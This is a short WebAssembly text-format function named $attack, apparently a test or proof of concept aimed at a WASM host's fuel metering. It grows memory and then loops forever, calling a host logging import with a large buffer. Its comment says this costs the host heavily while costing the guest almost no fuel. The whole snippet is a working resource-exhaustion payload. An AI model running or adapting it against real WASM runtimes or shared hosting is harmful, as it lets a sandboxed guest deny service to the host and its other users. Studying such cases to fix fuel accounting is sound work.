;; Lines that cost the host much and the guest next to no fuel, without end.
(func $attack (param $db i32)
    (drop (memory.grow (i32.const 320)))
    (loop $again
        (call $log (i32.const 0) (i32.const 65536) (i32.const 20000000))
        (br $again)))
